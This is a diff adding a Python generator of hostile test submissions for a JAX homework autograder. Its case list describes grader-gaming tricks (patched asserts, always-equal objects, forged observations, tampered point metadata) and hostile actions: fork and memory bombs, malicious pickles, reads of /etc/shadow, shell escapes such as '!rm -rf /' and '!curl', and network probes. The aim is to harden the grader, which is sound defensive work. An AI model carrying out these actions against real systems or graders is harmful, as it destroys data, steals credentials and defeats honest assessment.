+            raise SystemExit(f"the master has fewer answer cells for {ex} than the release")
+        cell["source"] = sources[k]
+    return nb
+
+
+def code_cell(source: str, jaxgrade: dict[str, Any] | None = None) -> dict[str, Any]:
+    return {"cell_type": "code", "execution_count": None, "outputs": [], "source": source,
+            "metadata": {"jaxgrade": jaxgrade} if jaxgrade else {}}
+
+
+def answer_positions(nb: dict[str, Any], exercise: str) -> list[int]:
+    return [i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code"
+            and (c.get("metadata", {}).get("jaxgrade") or {}).get("role") == "answer"
+            and c["metadata"]["jaxgrade"].get("exercise") == exercise]
+
+
+def replace_answer(nb: dict[str, Any], exercise: str, sources: list[str], index: int = 0) -> None:
+    """The `index`-th answer cell of `exercise` gets sources[0] (keeping its metadata); the others
+    follow as student-added cells without metadata (the grader attributes them to the exercise)."""
+    pos = answer_positions(nb, exercise)[index]
+    nb["cells"][pos]["source"] = sources[0]
+    nb["cells"][pos + 1:pos + 1] = [code_cell(s) for s in sources[1:]]
+
+
+def append_after_answer(nb: dict[str, Any], exercise: str, sources: list[str]) -> None:
+    """Student-added cells right after the last answer cell of `exercise`."""
+    pos = answer_positions(nb, exercise)[-1]
+    nb["cells"][pos + 1:pos + 1] = [code_cell(s) for s in sources]
+
+
+def dumps(nb: dict[str, Any]) -> bytes:
+    return (json.dumps(nb, indent=1, sort_keys=True, ensure_ascii=False) + "\n").encode()
+
+
+def write_zip(path: Path, members: dict[str, bytes]) -> None:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
+        for name in sorted(members):
+            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
+            info.compress_type = zipfile.ZIP_DEFLATED
+            info.external_attr = 0o644 << 16
+            zf.writestr(info, members[name])
+
+
+# --------------------------------------------------------------------------------------------
+# Cases
+
+
+@dataclass
+class Case:
+    id: str
+    title: str
+    attack: str
+    must_not: str
+    chapters: tuple[str, ...]
+    edit: Callable[[dict[str, dict[str, Any]], str], None]  # (notebooks by chapter, case id) -> None
+    exercises: dict[str, dict[str, Any]]
+    status: str | list[str]
+    packaging: str = "ipynb"  # "ipynb" (one chapter) | "folder" | "zip"
+    flags: dict[str, list[str]] = field(default_factory=lambda: {"has": [], "lacks": ["tampered"]})
+    feedback: dict[str, list[str]] = field(default_factory=lambda: {"contains": [], "absent": []})
+    outputs_absent: list[str] = field(default_factory=list)
+    host_markers: list[str] = field(default_factory=list)
+    process_markers: list[str] = field(default_factory=list)
+    listener: bool = False
+    known_weakness: str = ""  # non-empty: the grader is known to fail this case (the test expects failure)
+
+
+def src(text: str, case: str) -> str:
+    return text.replace("{case}", case)
+
+
+FULL = {"score": "full", "status": "ok"}
+ZERO = {"score": 0}
+ANY = {"score": "any"}  # graded (a result, not a grader error), whatever the score
+ALWAYS_ABSENT = ["/tmp/jaxgrade-scratch", "/tmp/jaxgrade-build-cache"]  # host paths never reach a student
+
+
+def full_except(chapter: str, special: dict[str, dict[str, Any]]) -> dict[str, dict[str, Any]]:
+    return {ex: special.get(ex, FULL) for ex in CHAPTERS[chapter]}
+
+
+def _h01(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "histogram", [src(PATCH_ALLCLOSE, case)])
+    replace_answer(nbs["ch02"], "fusion", [src(WRONG_FUSION, case)])
+    replace_answer(nbs["ch02"], "safe_distance", [src(WRONG_DISTANCE, case)])
+
+
+def _h02(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "safe_distance", [src(PEEK, case)])
+
+
+def _h03(nbs: dict, case: str) -> None:
+    for ex, text in (("histogram", TRICK_HISTOGRAM), ("recompile", TRICK_RECOMPILE), ("fusion", TRICK_FUSION),
+                     ("safe_distance", TRICK_DISTANCE)):
+        replace_answer(nbs["ch02"], ex, [src(text, case)])
+
+
+def _h04(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "histogram", [src(PICKLE, case)])
+
+
+def _h05(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "fusion", [src(OS_EXIT, case)])
+
+
+def _h06(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "recompile", [src(SIGTERM_LOOP, case)])
+
+
+def _h07(nbs: dict, case: str) -> None:
+    append_after_answer(nbs["ch02"], "histogram", [src(FORK_BOMB, case)])
+
+
+def _h08(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "safe_distance", [src(MEMORY_BOMB, case)])
+
+
+def _h09(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "recompile", [src(DAEMON, case)])
+
+
+def _h10(nbs: dict, case: str) -> None:
+    text = src(NETWORK, case).replace("range(LO, HI)", f"range({LISTEN_PORTS[0]}, {LISTEN_PORTS[1]})")
+    replace_answer(nbs["ch02"], "recompile", [text])
+
+
+def _h11(nbs: dict, case: str) -> None:
+    append_after_answer(nbs["ch02"], "histogram", [src(ESCAPE, case)])
+
+
+def _h12(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "recompile", [src(HUGE_OUTPUT, case)])
+
+
+def _kernel(text: str) -> Callable[[dict, str], None]:
+    def edit(nbs: dict, case: str) -> None:
+        replace_answer(nbs["ch05"], "silu_ffi", [src(text, case)], index=0)
+
+    return edit
+
+
+def _h17(nbs: dict, case: str) -> None:
+    append_after_answer(nbs["ch02"], "histogram", [src(TAMPER_HISTOGRAM, case)])
+    append_after_answer(nbs["ch02"], "fusion", [src(TAMPER_FUSION, case)])
+
+
+def _h18(nbs: dict, case: str) -> None:
+    nb = nbs["ch02"]
+    nb["metadata"]["jaxgrade"]["points"] = {ex: 1000 for ex in CH02}
+    nb["metadata"]["jaxgrade"]["release"] = "2099-fake"
+    fake_test = "OK_FORMAT = True\ntest = {{'name': '{}', 'points': 1000, 'suites': []}}"
+    nb["metadata"]["otter"] = {"tests": {ex: fake_test.format(ex) for ex in CH02}, "points": 1000}
+    for cell in nb["cells"]:
+        jg = cell.get("metadata", {}).get("jaxgrade")
+        if jg:
+            jg["points"] = 1000
+            jg["tests"] = [{"code": "assert True", "points": 1000}]
+            cell["metadata"]["otter"] = {"points": 1000, "tests": ["assert True"]}
+        if cell["cell_type"] == "markdown" and jg and jg.get("role") == "statement":
+            cell["source"] += "\n\n(本题 1000 分)"
+    pos = answer_positions(nb, "histogram")[0]
+    nb["cells"][pos:pos] = [code_cell(src(METADATA_NOTE, case), {"role": "setup", "points": 1000})]
+    pos = answer_positions(nb, "recompile")[0]
+    nb["cells"][pos + 1:pos + 1] = [code_cell(src(SELFCHECK_NOTE, case),
+                                              {"role": "selfcheck", "exercise": "recompile", "points": 1000})]
+
+
+def _h19(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "recompile", [src(MAGICS, case), src(MAGICS_BASH, case)])
+
+
+def _h20(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch02"], "recompile", [src(SYMLINKS, case)])
+
+
+def _h22(nbs: dict, case: str) -> None:
+    replace_answer(nbs["ch05"], "gammaln_callback", [src(FORGE, case)])
+
+
+def _h21(nbs: dict, case: str) -> None:
+    append_after_answer(nbs["ch02"], "histogram", [src(POISON, case)])
+
+
+KERNEL_OTHERS = {"reduce_sum_rules": FULL, "gammaln_callback": FULL}
+
+CASES: list[Case] = [
+    Case("h01_patch_allclose", "patched comparisons",
+         "numpy.allclose / isclose / array_equal / numpy.testing.* / unittest asserts / math.isclose patched "
+         "to always pass, builtins.AssertionError swallowed; then wrong histogram, fusion and distance "
+         "answers",
+         "a wrong answer scores points because some comparison ran next to the student's code",
+         ("ch02",), _h01,
+         full_except("ch02", {"histogram": ZERO, "fusion": ZERO, "safe_distance": ZERO}),
+         "partial:not_submitted:ch05"),
+    Case("h02_frame_peeking", "caller frames and heap",
+         "sys._getframe chain, inspect.stack() and gc.get_objects() searched for grader modules, frames, "
+         "functions and for any array equal to the true distances, everything printed; the report is "
+         "raised from safe_pairwise_distance so it reaches the feedback",
+         "the child finds an expected value, a grader frame or a grader object",
+         ("ch02",), _h02,
+         full_except("ch02", {"safe_distance": ZERO}), "partial:not_submitted:ch05",
+         feedback={"contains": ["HOSTILE-REPORT h02_frame_peeking PEEK gf=0 gm=0 go=0 ctl=1 ex=0",
+                                " cell gf=0 gm=0 go=0 ctl=0 ex=0"], "absent": []}),
+    Case("h03_always_equal", "always-equal objects",
+         "interfaces return objects whose __eq__ is always true and whose __class__ pretends to be "
+         "Counter / int / tuple; the distance is an object whose __array__ is NaN",
+         "an object that merely claims equality or a type earns points",
+         ("ch02",), _h03, {ex: ZERO for ex in CH02}, "partial:not_submitted:ch05"),
+    Case("h04_pickle", "malicious pickles",
+         "pickles whose __reduce__ creates /tmp/jaxgrade_pwned_h04 planted in obs/, scratch and work "
+         "(.pkl and object-array .npy), interfaces return pickle-ish objects, and a patched os._exit "
+         "rewrites every observation file to reference the pickles after the last flush",
+         "anything written by the child is ever unpickled (the marker appears on the host)",
+         ("ch02",), _h04,
+         {"histogram": ZERO, "recompile": ANY, "fusion": ANY, "safe_distance": ANY},
+         "partial:not_submitted:ch05", packaging="zip",
+         host_markers=["/tmp/jaxgrade_pwned_h04_pickle"]),
+    Case("h05_os_exit", "os._exit",
+         "os._exit(0) in the fusion answer cell",
+         "the other exercises lose points, or the batch stops",
+         ("ch02",), _h05,
+         full_except("ch02", {"fusion": {"score": 0, "status": "crashed"}}), "partial:not_submitted:ch05"),
+    Case("h06_sigterm_loop", "infinite loop ignoring SIGTERM",
+         "signal.signal(SIGTERM/SIGINT/SIGHUP/SIGXCPU, SIG_IGN); while True: pass in the recompile cell",
+         "the grader waits for the loop, or other exercises time out",
+         ("ch02",), _h06,
+         full_except("ch02", {"recompile": {"score": 0, "status": "timeout"}}), "partial:not_submitted:ch05"),
+    Case("h07_fork_bomb", "fork bomb",
+         "after a correct histogram answer: up to 200 forks, each forking twice more, every process "
+         "exec'ing `sh -c 'sleep 300'` (bounded); stops after 10 refusals",
+         "the bomb escapes the process limit, a process survives the job, or grading stops",
+         ("ch02",), _h07,
+         {"histogram": FULL, "recompile": FULL, "fusion": ANY, "safe_distance": ANY},
+         "partial:not_submitted:ch05",
+         process_markers=["jaxgrade_hostile_h07_fork_bomb"]),
+    Case("h08_memory_bomb", "memory bomb",
+         "safe_pairwise_distance allocates 256 MiB blocks until the allocator refuses (at most 64, "
+         "the first one touched)",
+         "the host runs out of memory, or the other exercises are affected",
+         ("ch02",), _h08,
+         full_except("ch02", {"safe_distance": ZERO}), "partial:not_submitted:ch05"),
+    Case("h09_daemon", "double-forked daemon",
+         "the recompile cell double-forks a daemon in its own session that rewrites "
+         "/tmp/jaxgrade_daemon_h09_daemon every second for 300 s (pid written to scratch)",
+         "the daemon outlives the job or writes to the host's /tmp",
+         ("ch02",), _h09, full_except("ch02", {}), "partial:not_submitted:ch05",
+         host_markers=["/tmp/jaxgrade_daemon_h09_daemon"], process_markers=["jaxgrade_hostile_h09_daemon"]),
+    Case("h10_network", "network",
+         f"TCP/UDP/IPv6 to every port of 127.0.0.1:{LISTEN_PORTS[0]}-{LISTEN_PORTS[1] - 1} (the test "
+         "listens on one), TCP to 1.1.1.1, 8.8.8.8, 10.0.2.2, the cloud metadata address, host unix "
+         "sockets, DNS",
+         "any connection reaches the listener or anything outside",
+         ("ch02",), _h10, full_except("ch02", {}), "partial:not_submitted:ch05",
+         feedback={"contains": ["HOSTILE-REPORT h10_network NET connected=none"], "absent": []},
+         listener=True),
+    Case("h11_escape_files", "grader files",
+         "repository, OUT and SUBMISSIONS paths guessed from sys.prefix, the editable install, "
+         "/proc/1/cmdline, /proc/self/mountinfo and /tmp; reads of the hidden checks, masters, release "
+         "tests, other students, gradebook, /etc/shadow, /proc/1/environ; imports of the grader "
+         "modules; creation of jaxgrade_hostile_* files and write-opens of grades.csv / results.json "
+         "in scratch, its parents, /out, /autograder/results, the repository and OUT",
+         "a read of a grader file succeeds, or anything outside scratch changes",
+         ("ch02",), _h11, full_except("ch02", {}), "partial:not_submitted:ch05",
+         feedback={"contains": ["HOSTILE-REPORT h11_escape_files ESCAPE read=0 escaped=0"], "absent": []},
+         host_markers=["/tmp/jaxgrade_escape_h11_escape_files", "/var/tmp/jaxgrade_escape_h11_escape_files",
+                       "/dev/shm/jaxgrade_escape_h11_escape_files"]),
+    Case("h12_huge_output", "huge output",
+         "about 200 MB printed and written straight to fd 1 and 2, then a 20 MB exception message",
+         "the grader stores or shows the output, blocks on a pipe, or runs out of memory",
+         ("ch02",), _h12, full_except("ch02", {}), "partial:not_submitted:ch05",
+         outputs_absent=["JAXGRADE-HOSTILE h12_huge_output JAXGRADE-HOSTILE", "x" * 400]),
+    Case("h13_kernel_segfault", "segfaulting kernel",
+         "Silu and SiluBwd write through a null pointer and raise SIGSEGV when called",
+         "the crash costs other exercises, or the grader fails",
+         ("ch05",), _kernel(KERNEL_SEGFAULT),
+         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "crashed"}}, "partial:not_submitted:ch02",
+         packaging="folder"),
+    Case("h14_kernel_hang", "kernel that never returns",
+         "Silu and SiluBwd spin forever on a volatile counter",
+         "the grader waits forever, or other exercises time out",
+         ("ch05",), _kernel(KERNEL_HANG),
+         {**KERNEL_OTHERS, "silu_ffi": {"score": 0, "status": "timeout"}}, "partial:not_submitted:ch02",
+         packaging="folder"),
+    Case("h15_kernel_ctor", "library constructor",
+         "a correct SiLU whose __attribute__((constructor)) creates jaxgrade_ctor_* files in /tmp, "
+         "/var/tmp, /dev/shm, the repository and relative parents, and starts a setsid daemon",
+         "a file appears outside scratch, a process survives, or the kernel is loaded outside a sandbox",
+         ("ch05",), _kernel(KERNEL_CTOR),
+         {**KERNEL_OTHERS, "silu_ffi": FULL}, "partial:not_submitted:ch02", packaging="folder",
+         host_markers=["/tmp/jaxgrade_ctor_h15_kernel_ctor", "/var/tmp/jaxgrade_ctor_h15_kernel_ctor",
+                       "/dev/shm/jaxgrade_ctor_h15_kernel_ctor", "/jaxgrade_ctor_h15_kernel_ctor"],
+         process_markers=["jaxgrade_hostile_h15_kernel_ctor"]),
+    Case("h16_kernel_include", "includes outside the kernel folder",
+         '__has_include probes, then #include "../../../autograder/exercises/silu_ffi.py", '
+         '#include </work/main/autograder/exercises/silu_ffi.py> and #include "/etc/shadow"',
+         "a grader file or /etc/shadow is visible to the compiler or its content reaches the feedback",
+         ("ch05",), _kernel(KERNEL_INCLUDE),
+         {**KERNEL_OTHERS, "silu_ffi": {"score": 0}}, "partial:not_submitted:ch02", packaging="folder",
+         feedback={"contains": ["编译失败", "file not found", "VISIBLE own-source (expected)"],
+                   "absent": ["VISIBLE /etc/shadow", "VISIBLE repo", "VISIBLE master", "RTOL_VALUE",
+                              "root:", "Exercise `silu_ffi`"]}),
+    Case("h17_tamper_jax", "replaced JAX functions",
+         "after correct answers: jax.make_jaxpr replaced (histogram cell), jax.stages.Compiled.as_text "
+         "and jax.jit replaced by fakes (fusion cell)",
+         "an exercise that relies on a replaced function scores points, or the TA is not told",
+         ("ch02",), _h17,
+         {"histogram": {"score": 0, "status": "tampered"}, "recompile": FULL,
+          "fusion": {"score": 0, "status": "tampered"}, "safe_distance": {"score": 0, "status": "tampered"}},
+         "tampered", flags={"has": ["tampered"], "lacks": []},
+         feedback={"contains": ["jax.make_jaxpr", "jax.stages.Compiled.as_text"], "absent": []}),
+    Case("h18_metadata_points", "tampered metadata",
+         "points 1000 and injected tests in cell, notebook and otter metadata, a fake release version, "
+         "a student cell tagged as setup and one tagged as self-check (both call os._exit)",
+         "points come from the submission, injected tests run, or a student cell runs as setup/self-check",
+         ("ch02",), _h18, full_except("ch02", {}), "partial:not_submitted:ch05"),
+    Case("h19_magics", "shell escapes and magics",
+         "!rm -rf ~, !rm -rf /, !curl, !wget, !cat /etc/shadow, %env, %env HOME=/, !id, %sx, "
+         "get_ipython().system, a %%bash cell that starts 50 background sleeps",
+         "a command has an effect outside the sandbox, or a background process survives",
+         ("ch02",), _h19, full_except("ch02", {}), "partial:not_submitted:ch05",
+         host_markers=["/tmp/jaxgrade_magic_h19_magics", "/jaxgrade_magic_h19_magics"],
+         process_markers=["jaxgrade_hostile_h19_magics"]),
+    Case("h20_symlinks", "links and FIFOs in scratch",
+         "observation files and an input file replaced by links to /etc/passwd, /etc/shadow and "
+         "/proc/self/fd/0; progress.jsonl replaced by a FIFO nobody writes",
+         "the parent follows a link, blocks on the FIFO or on its own stdin, or reads a host file",
+         ("ch02",), _h20, full_except("ch02", {}), "partial:not_submitted:ch05",
+         outputs_absent=["root:x:0:0", "/bin/bash"]),
+    Case("h21_poison_modules", "poisoned modules",
+         "sys.modules['numpy'] and ['json'] replaced by fakes; numpy.py, json.py, sitecustomize.py "
+         "and usercustomize.py planted in the working folder, scratch and tmp",
+         "the fakes change what the child reports without the tamper check noticing, or a later "
+         "process imports the planted modules",
+         ("ch02",), _h21,
+         {"histogram": {"score": 0, "status": "tampered"}, "recompile": {"score": 0, "status": "tampered"},
+          "fusion": {"score": 0, "status": "tampered"}, "safe_distance": {"score": 0, "status": "tampered"}},
+         "tampered", flags={"has": ["tampered"], "lacks": []},
+         feedback={"contains": ["numpy.save"], "absent": []}),
+    Case("h22_forged_observations", "observations edited after the last flush",
+         "gammaln_cb computed with JAX's own lgamma/digamma (no pure_callback); os._exit, which the "
+         "child calls at the very end, is replaced so that it first edits obs/gammaln_callback.json in "
+         "place (token kept) to claim the output depends on pure_callback",
+         "structural facts reported by the child are believed after student code had a chance to edit them",
+         ("ch05",), _h22,
+         {"reduce_sum_rules": FULL, "gammaln_callback": {"score": 0}, "silu_ffi": FULL},
+         "partial:not_submitted:ch02", packaging="folder",
+         known_weakness="observations are written by the process that runs the student's code; a cell "
+                        "can rewrite them after the last flush (os._exit, sys.setprofile, a thread) and "
+                        "the per-run token is inside the file it edits. Value checks stay sound (the "
+                        "values must be right); structural gates (pure_callback, FFI custom-call, "
+                        "primitive kept) and __tampered__ can be forged."),
+]
+
+
+# --------------------------------------------------------------------------------------------
+
+
+def pick_release(arg: Path | None) -> Path:
+    if arg is not None:
+        return arg
+    found = sorted(p.parent for p in (REPO / "assignments").glob("*/manifest.json"))
+    if not found:
+        raise SystemExit("no release under assignments/")
+    return found[-1]
+
+
+def expected_doc(case: Case, entry: str) -> dict[str, Any]:
+    return {
+        "case": case.id,
+        "title": case.title,
+        "attack": case.attack,
+        "must_not": case.must_not,
+        "submission": entry,
+        "exercises": case.exercises,
+        "status": case.status,
+        "flags": case.flags,
+        "feedback": case.feedback,
+        "outputs_absent": [*ALWAYS_ABSENT, *case.outputs_absent],
+        "host_markers": case.host_markers,
+        "process_markers": case.process_markers,
+        "listener": case.listener,
+        "known_weakness": case.known_weakness,
+    }
+
+
+def write_case(case: Case, out: Path, released: dict[str, dict], full: dict[str, dict],
+               names: dict[str, str]) -> None:
+    nbs = {ch: copy.deepcopy(full[ch]) for ch in case.chapters}
+    case.edit(nbs, case.id)
+    folder = out / case.id
+    if folder.exists():
+        shutil.rmtree(folder)
+    folder.mkdir(parents=True)
+    if case.packaging == "ipynb":
+        (ch,) = case.chapters
+        entry = f"{case.id}.ipynb"
+        (folder / entry).write_bytes(dumps(nbs[ch]))
+    elif case.packaging == "folder":
+        entry = case.id
+        (folder / entry).mkdir()
+        for ch, nb in nbs.items():
+            (folder / entry / names[ch]).write_bytes(dumps(nb))
+    elif case.packaging == "zip":
+        entry = f"{case.id}.zip"
+        write_zip(folder / entry, {f"homework/{names[ch]}": dumps(nb) for ch, nb in nbs.items()})
+    else:
+        raise SystemExit(f"unknown packaging {case.packaging}")
+    doc = expected_doc(case, entry)
+    text = json.dumps(doc, indent=1, sort_keys=True, ensure_ascii=False) + "\n"
+    (folder / "expected.json").write_text(text, encoding="utf-8")
+
+
+def main(argv: list[str] | None = None) -> int:
+    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    p.add_argument("--release", type=Path, default=None)
+    p.add_argument("--solutions", type=Path, default=REPO / "solutions")
+    p.add_argument("--out", type=Path, default=Path(__file__).resolve().parent)
+    p.add_argument("--only", default=None, help="comma-separated case ids (default: all)")
+    args = p.parse_args(argv)
+    rel = ReleaseInfo.load(pick_release(args.release))
+    masters = find_masters(args.solutions)
+    released = {ch: json.loads(path.read_text(encoding="utf-8")) for ch, path in rel.notebooks.items()}
+    full = {ch: solved(released[ch], masters[ch].answer_sources) for ch in CHAPTERS}
+    names = {ch: path.name for ch, path in rel.notebooks.items()}
+    wanted = set(args.only.split(",")) if args.only else None
+    ids = [c.id for c in CASES]
+    if len(set(ids)) != len(ids):
+        raise SystemExit("duplicate case ids")
+    args.out.mkdir(parents=True, exist_ok=True)
+    if wanted is None:  # a full run removes folders of cases that no longer exist
+        for stale in args.out.iterdir():
+            if stale.is_dir() and stale.name[:1] == "h" and stale.name not in ids:
+                shutil.rmtree(stale)
+    n = 0
+    for case in CASES:
+        if wanted is None or case.id in wanted:
+            write_case(case, args.out, released, full, names)
+            n += 1
+    print(f"wrote {n} hostile cases to {args.out} from release {rel.version}")
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
